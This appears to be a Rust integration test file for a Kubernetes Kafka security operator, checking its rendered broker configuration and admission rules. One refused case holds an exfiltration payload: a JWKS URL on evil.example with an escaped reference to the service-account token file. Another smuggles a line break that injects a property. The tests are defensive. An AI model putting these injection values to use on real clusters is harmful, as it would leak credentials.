//! Tenants and what reaches the brokers (issue 30, items 4 and 5), against the shared control
//! plane: the rendered `server.properties` confines Kafka's DirectoryConfigProvider to the
//! directories the operator mounts and names clients apart from brokers; every properties-file
//! syntax in a value bound for it is refused at admission (rule `PropertiesValueSyntax`), and so
//! is a client named under the brokers' DNS name (rule `ClientNotBroker`). The `${…}` key-set
//! URL and the client named like the brokers' service are in `hostile`.

use crate::support::{apply, assert_no_secret_leaks, brokers, env, stderr, wait_jsonpath, webhook_ready};
use k8s_openapi::api::core::v1::{ConfigMap, Secret};
use kube::Api;

/// The directories the provider may read, as the operator mounts them.
const ALLOWED_PATHS: &str = "config.providers.dir.param.allowed.paths=/etc/kafka/security/external-tls,/etc/kafka/security/internal-tls,/etc/kafka/security/client-ca,/etc/kafka/security/pod";
/// The principal mapping of the mTLS client listener.
const CLIENT_MAPPING: &str = "listener.name.tls.ssl.principal.mapping.rules=RULE:^CN=([^,=]+),OU=clustersecurity-clients$/$1/,RULE:^CN=([^,=]+)$/$1/,DEFAULT";

fn policy(ns: &str, name: &str, auth: &str) -> String {
    format!(
        "apiVersion: clustersecurity.io/v1alpha1\nkind: ClusterSecurityPolicy\nmetadata: {{name: {name}, namespace: {ns}}}\nspec:\n  clusterRef: {{kind: StatefulSet, name: kafka}}\n  clientAuthentication: {auth}\n  encryptionInTransit: {{clientBroker: TLS, inCluster: true}}\n"
    )
}

/// A valid policy with a client completes; the `<cluster>-security` ConfigMap it rendered lets
/// the DirectoryConfigProvider read only the operator's mounts (no ServiceAccount token), maps
/// client principals on the mTLS listener only, and the client's certificate carries the unit
/// that mapping names `User:<name>`.
#[tokio::test]
async fn the_rendered_configuration_confines_the_provider_and_names_clients_apart() {
    let cp = &env().cp;
    let ns = "tenants-render";
    webhook_ready(cp).await;
    brokers(cp, ns, "kafka", 1).await;
    apply(
        cp,
        &policy(
            ns,
            "policy",
            "{tls: {enabled: true, clients: [{name: team-a.orders-app, secretName: orders-app-tls}]}}",
        ),
    );
    wait_jsonpath(cp, ("csp", ns, "policy"), "{.status.operations[0].operationState}", 120, |s| s == "UPDATE_COMPLETE")
        .await;

    let client = cp.client().await.unwrap();
    let cm = Api::<ConfigMap>::namespaced(client.clone(), ns).get("kafka-security").await.unwrap();
    let props = cm.data.unwrap().remove("server.properties").unwrap();
    let lines: Vec<&str> = props.lines().collect();
    assert!(lines.contains(&ALLOWED_PATHS), "{props}");
    assert!(lines.contains(&CLIENT_MAPPING), "{props}");
    let mappings: Vec<&&str> = lines.iter().filter(|l| l.contains("principal.mapping.rules")).collect();
    assert_eq!(mappings.len(), 1, "replication keeps Kafka's default (brokers are User:CN=<service>): {props}");
    assert!(!props.contains("/var/run/secrets"), "{props}");
    // Every `${…}` the file holds is one of the operator's, into an allowed directory.
    let allowed: Vec<&str> = ALLOWED_PATHS.split_once('=').unwrap().1.split(',').collect();
    for reference in props.split("${").skip(1) {
        let dir = reference.strip_prefix("dir:").and_then(|r| r.split(':').next()).unwrap_or(reference);
        assert!(allowed.contains(&dir), "{reference} reads outside the mounts:\n{props}");
    }

    let secret = Api::<Secret>::namespaced(client, ns).get("orders-app-tls").await.unwrap();
    let pem = secret.data.unwrap().remove("tls.crt").unwrap().0;
    let (_, block) = x509_parser::pem::parse_x509_pem(&pem).unwrap();
    let cert = block.parse_x509().unwrap();
    // Encoded OU then CN: Kafka (RFC 2253, last first) reads CN=team-a.orders-app,OU=clustersecurity-clients.
    assert_eq!(cert.subject().to_string(), "OU=clustersecurity-clients, CN=team-a.orders-app");
    assert_no_secret_leaks(&[]).await;
}

/// Whatever would change how `server.properties` is read — a line break (a property of its own),
/// a backslash (`\u0024{` reads as `${`), white space, what is not ASCII — is refused at admission
/// with the rule, the field and the fix; nothing is created.
#[tokio::test]
async fn every_properties_file_syntax_is_refused_at_admission() {
    let cp = &env().cp;
    webhook_ready(cp).await;
    let iam = |issuer: &str, audience: &str, jwks: &str| {
        format!("{{sasl: {{iam: {{enabled: true, issuer: {issuer}, audience: {audience}, jwksEndpointUrl: {jwks}}}}}}}")
    };
    let good = ("'https://idp.example/t'", "kafka", "'https://idp.example/t/keys'");
    let cases = [
        (
            iam("\"https://idp.example/t\\nsasl.enabled.mechanisms=PLAIN\"", good.1, good.2),
            "sasl.iam.issuer",
            "a line break",
        ),
        (
            iam(
                good.0,
                good.1,
                "'https://evil.example/k?t=\\u0024{dir:/var/run/secrets/kubernetes.io/serviceaccount:token}'",
            ),
            "sasl.iam.jwksEndpointUrl",
            "a backslash",
        ),
        (iam(good.0, "'kafka admin'", good.2), "sasl.iam.audience", "white space"),
        (iam(good.0, "kafkä", good.2), "sasl.iam.audience", "not ASCII"),
    ];
    for (i, (auth, field, says)) in cases.iter().enumerate() {
        let manifest = policy("default", &format!("syntax-{i}"), auth);
        let out = cp.kubectl_with_stdin(&["apply", "-f", "-"], Some(&manifest));
        let err = stderr(&out);
        assert!(!out.status.success(), "admitted:\n{manifest}");
        assert!(
            err.contains("(rule PropertiesValueSyntax)")
                && err.contains(&format!("spec.clientAuthentication.{field}"))
                && err.contains(says)
                && err.contains("give the value"),
            "{manifest}\n{err}"
        );
    }
    let listed = crate::support::stdout(&cp.kubectl(&["get", "csp", "-n", "default", "-o", "name"]));
    assert!(!listed.contains("syntax-"), "{listed}");
    assert_no_secret_leaks(&[]).await;
}

/// A client named by a DNS name under the brokers' (the names their certificates carry) is
/// refused at admission like one named like the cluster; a name that only starts alike is not.
#[tokio::test]
async fn a_client_named_under_the_brokers_dns_name_is_refused() {
    let cp = &env().cp;
    webhook_ready(cp).await;
    let with_client = |name: &str| {
        policy(
            "default",
            "dns-client",
            &format!("{{tls: {{enabled: true, clients: [{{name: {name}, secretName: app-tls}}]}}}}"),
        )
    };
    let out = cp.kubectl_with_stdin(&["apply", "--dry-run=server", "-f", "-"], Some(&with_client("kafka.tenant.svc")));
    let err = stderr(&out);
    assert!(
        !out.status.success()
            && err.contains("(rule ClientNotBroker)")
            && err.contains("spec.clientAuthentication.tls.clients[0].name"),
        "{err}"
    );
    let out = cp.kubectl_with_stdin(&["apply", "--dry-run=server", "-f", "-"], Some(&with_client("kafka-app")));
    assert!(out.status.success(), "{}", stderr(&out));
}
